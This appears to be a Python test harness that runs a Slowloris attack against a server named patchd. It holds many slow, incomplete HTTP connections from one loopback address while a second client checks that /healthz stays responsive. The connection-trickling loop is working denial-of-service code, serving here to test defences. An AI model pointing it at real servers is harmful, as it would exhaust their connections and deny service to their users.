"""Slowloris against patchd: from one address, open many connections that send a request
line and then one header byte every second, while a client on another loopback address
checks that normal requests are still answered quickly. patchd keeps at most
--max-conns-per-ip of them open and cuts every one whose head is not complete within
--header-timeout of its first byte.
Usage: slowloris.py URL CONNECTIONS SECONDS [ATTACKER_ADDRESS [CLIENT_ADDRESS]]. Prints one
JSON line; exit 1 on failure."""
import http.client
import json
import resource
import socket
import sys
import time
import urllib.parse


def healthz(host, port, source):
    conn = http.client.HTTPConnection(host, port, timeout=10, source_address=(source, 0))
    try:
        conn.request("GET", "/healthz")
        response = conn.getresponse()
        response.read()
        return response.status
    finally:
        conn.close()


def main():
    url, count, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    attacker = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.1"
    client = sys.argv[5] if len(sys.argv) > 5 else "127.0.0.2"
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, count + 256)), hard))
    parts = urllib.parse.urlsplit(url)
    idle, refused = [], 0
    for i in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(5)
        s.bind((attacker, 0))
        try:
            s.connect((parts.hostname, parts.port))
            s.sendall(f"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow-{i}: ".encode())
            idle.append(s)
        except OSError:
            refused += 1
            s.close()
    worst, served, closed, statuses = 0.0, 0, 0, set()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        started = time.monotonic()
        statuses.add(healthz(parts.hostname, parts.port, client))
        worst = max(worst, time.monotonic() - started)
        served += 1
        still = []
        for s in idle:
            try:
                s.send(b"a")  # one byte: keeps the request "in progress"
                s.setblocking(False)
                try:
                    if s.recv(4096) == b"":
                        raise OSError("closed")
                except BlockingIOError:
                    pass
                s.setblocking(True)
                still.append(s)
            except OSError:
                closed += 1
                s.close()
        idle = still
        time.sleep(1)
    for s in idle:
        s.close()
    result = {"slow_connections": count, "attacker": attacker, "refused_at_connect": refused,
              "closed_by_server": closed, "still_open_at_end": len(idle), "healthz_from": client,
              "healthz_answered": served, "healthz_statuses": sorted(statuses), "worst_healthz_ms": round(worst * 1000, 1)}
    print(json.dumps(result))
    sys.exit(0 if served > 0 and statuses == {200} and worst < 2.0 else 1)


if __name__ == "__main__":
    main()
